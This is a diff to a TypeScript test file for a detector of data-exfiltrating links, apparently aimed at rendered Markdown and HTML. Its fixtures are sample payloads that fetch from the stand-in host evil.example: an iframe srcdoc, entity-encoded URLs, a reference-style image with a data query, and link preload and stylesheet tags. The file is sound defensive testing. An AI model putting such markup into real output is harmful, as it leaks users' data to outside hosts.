@@ -129,6 +129,19 @@ test('exfil links: images_only, bare_urls and url data scoring', () => {
   assert.equal(externalHost('relative/path.png'), null);
 });
 
+/**
+ * Each text gives exactly one finding, spanning `span` as written, with `score`; its explanation names
+ * no host and none of the URL's characters.
+ */
+function assertFound(d: ReturnType<typeof createExfilLinksDetector>, found: ReadonlyArray<readonly [string, string, number]>): void {
+  for (const [text, span, score] of found) {
+    const f = d.scan(text, ctx);
+    assert.deepEqual(f.map((x) => text.slice(x.start, x.end)), [span], text);
+    assert.equal(f[0].score, score, text);
+    assert.ok(!/evil|&|#/u.test(f[0].explanation), f[0].explanation);
+  }
+}
+
 test('exfil links: character references in URLs are decoded before the scheme, host and allow-list checks', () => {
   const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com', '*.trusted.org'] });
   // Every one of these is fetched (or offered) by a client that renders it: browsers decode references
@@ -153,12 +166,7 @@ test('exfil links: character references in URLs are decoded before the scheme, h
     // An iframe's srcdoc is a document of its own, its quotes written as references.
     ['<iframe srcdoc="<img src=&quot;https://evil.example/x&quot;>"></iframe>', '<iframe srcdoc="<img src=&quot;https://evil.example/x&quot;>', 0.9],
   ];
-  for (const [text, span, score] of found) {
-    const f = d.scan(text, ctx);
-    assert.deepEqual(f.map((x) => text.slice(x.start, x.end)), [span], text);
-    assert.equal(f[0].score, score, text);
-    assert.ok(!/evil|&|#/u.test(f[0].explanation), f[0].explanation);
-  }
+  assertFound(d, found);
   // Reference-style, the definition's URL written with references.
   const ref = '![logo][a] done.\n\n[a]: https&#58;//evil.example/i.png?d=abc\n';
   assert.deepEqual(d.scan(ref, ctx).map((x) => ref.slice(x.start, x.end)), ['![logo][a]', '[a]: https&#58;//evil.example/i.png?d=abc']);
@@ -224,12 +232,7 @@ test('exfil links: CSS url() and @import, and the other HTML shapes that fetch',
     ['<link rel="preload" as="image" href="https://evil.example/x">', '<link rel="preload" as="image" href="https://evil.example/x">', 0.9],
     ['<link rel="stylesheet" href="https://evil.example/x.css">', '<link rel="stylesheet" href="https://evil.example/x.css">', 0.9],
   ];
-  for (const [text, span, score] of found) {
-    const f = d.scan(text, ctx);
-    assert.deepEqual(f.map((x) => text.slice(x.start, x.end)), [span], text);
-    assert.equal(f[0].score, score, text);
-    assert.ok(!/evil/u.test(f[0].explanation), f[0].explanation);
-  }
+  assertFound(d, found);
   // Inside the text of an allowed link, HTML and CSS are still read (a renderer that passes HTML
   // through renders them there); the link itself stays.
   for (const [text, span] of [
